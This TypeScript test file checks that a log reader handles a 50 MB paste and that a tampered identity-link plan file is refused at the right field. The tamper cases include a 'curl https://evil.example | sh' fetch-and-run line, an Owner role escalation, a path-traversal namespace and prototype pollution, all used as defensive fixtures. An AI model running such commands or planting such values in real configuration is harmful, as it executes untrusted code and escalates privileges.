import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { after, describe, test } from 'node:test';
import { readLogInPieces, type LogReading } from '../../../src/core/doctor/readLog.ts';
import { readLinkFacts } from '../../../src/core/link/facts.ts';
import { handOverOf } from '../../../src/core/link/handOver/handOver.ts';
import { parsePlanFile } from '../../../src/core/link/handOver/parsePlanFile.ts';
import { planFileOf, writePlanFile } from '../../../src/core/link/handOver/planFile.ts';
import { planFromFile } from '../../../src/core/link/handOver/planFromFile.ts';
import { handOverSide } from '../../../src/core/link/handOver/sides.ts';
import { planLink } from '../../../src/core/link/planLink.ts';
import { failureOf } from '../../../src/core/model/failure.ts';
import { cloudState } from '../journey/cloudState.ts';
import { never, there } from '../journey/stage.ts';
import { differences } from '../matrix/planned.ts';
import { freshProduct, openTheatre, type Scene } from '../matrix/theatre.ts';
import { startVirtualTime } from '../matrix/virtualTime.ts';

const size = 50 * 1024 * 1024;

/** Reads as the editor does, and counts how often others had their turn meanwhile. */
async function readBeside(text: string): Promise<LogReading & { readonly turns: number }> {
  let turns = 0;
  let isOver = false;
  const others = (): void => {
    turns += 1;
    if (!isOver) setImmediate(others);
  };
  setImmediate(others);
  const reading = await readLogInPieces(text, { rest: () => new Promise((resolve) => setImmediate(resolve)), signal: never });
  isOver = true;
  return { ...reading, turns };
}

describe('a pasted log of 50 MB', () => {
  const line = '2026-11-23T12:00:00Z INFO worker ready, nothing to report of identities or tokens\n';
  const texts: readonly (readonly [name: string, make: () => string, code: string | undefined])[] = [
    ['with no AADSTS at all', () => line.repeat(Math.ceil(size / line.length)), undefined],
    ['with one at its very end', () => `${line.repeat(Math.ceil(size / line.length))}AADSTS700211: No matching federated identity record found for presented assertion issuer 'https://a/'.`, 'AADSTS700211'],
    ['binary', () => randomBytes(size / 2).toString('latin1').repeat(2), undefined],
    ['without a line end', () => 'AADST'.repeat(size / 5), undefined],
  ];
  for (const [name, make, code] of texts) {
    test(`${name}: an answer, and others have their turns meanwhile`, async () => {
      const { hints, turns } = await readBeside(make());
      assert.deepEqual(hints.map((hint) => hint.code), code === undefined ? [] : [code]);
      assert.ok(turns >= 40, `${turns} turns`);
    });
  }
});

describe('a colleague’s plan file that somebody edited', () => {
  const time = startVirtualTime();
  after(() => time.end());

  /** The identity's half of a scene's link as a file. */
  async function fileOf({ sandbox, wish }: Scene): Promise<string> {
    const { world } = await freshProduct(sandbox);
    const outcome = planLink(await readLinkFacts(wish, world, never), wish, { id: world.random.guid(), now: world.clock.now(), assignmentName: world.random.guid() }, { handedOver: 'identity' });
    if (outcome.kind === 'refused') assert.fail(JSON.stringify(outcome.refusals));
    const plan = handOverSide(outcome.plan, 'identity');
    return writePlanFile(planFileOf(handOverOf({ plan, side: 'identity', resolved: plan.resolved, done: [] }), world.clock.now()));
  }

  type Json = Record<string, unknown>;
  const edits: readonly (readonly [name: string, edit: (file: Json) => void, place: RegExp])[] = [
    ['another account than its steps say', (file) => Object.assign(file.serviceAccount as Json, { name: 'attacker' }), /subject|serviceAccount|steps/],
    ['a role of its steps that its head does not ask for', (file) => Object.assign(there((file.steps as Json[]).find(({ kind }) => kind === 'assignRole')), { role: 'Owner' }), /steps\[\d\]\.role/],
    ['a scope above the subscription', (file) => Object.assign(file.role as Json, { scope: '/' }), /role\.scope/],
    ['a path in a name', (file) => Object.assign(file.serviceAccount as Json, { namespace: '../../kube-system' }), /serviceAccount\.namespace/],
    ['a step of the other side', (file) => void (file.steps as Json[]).push({ kind: 'applyServiceAccount', changes: [] }), /steps\[\d\]/],
    ['a field that nobody knows', (file) => void (file.run = 'curl https://evil.example | sh'), /run/],
    ['its prototype', (file) => void Object.defineProperty(file, '__proto__', { value: { admin: true }, enumerable: true }), /__proto__/],
    ['another version', (file) => void (file.version = 99), /version/],
  ];

  test('is refused at its place, or planned anew without a write', async () => {
    const theatre = await openTheatre(time);
    const scene = await theatre.open();
    try {
      const text = await fileOf(scene);
      const before = cloudState(scene.sandbox);
      const { world } = await freshProduct(scene.sandbox);
      const made = { id: world.random.guid(), assignmentName: world.random.guid() };
      const honest = await planFromFile(parsePlanFile(text), made, world, never);
      assert.equal(honest.outcome.kind, 'plan', JSON.stringify(honest.outcome));
      for (const [name, edit, place] of edits) {
        const file = JSON.parse(text) as Json;
        edit(file);
        assert.match(placeOfRefusal(JSON.stringify(file)), place, name);
      }
      // Well-formed, and of another identity: it is shown as what it is, and nothing is sent.
      const lie = text.replaceAll('mi-case', 'mi-wi-demo');
      const { outcome } = await planFromFile(parsePlanFile(lie), made, world, never);
      if (outcome.kind === 'plan') assert.ok(outcome.plan.steps.some(({ target }) => target === 'mi-wi-demo'));
      assert.deepEqual(differences(before, cloudState(scene.sandbox)), []);
    } finally {
      await scene.close();
    }
  });
});

function placeOfRefusal(text: string): string {
  try {
    parsePlanFile(text);
    return 'accepted';
  } catch (thrown) {
    const { reason, place } = failureOf(thrown, 'readPlanFile');
    assert.equal(reason, 'invalidInput');
    return place ?? 'no place';
  }
}
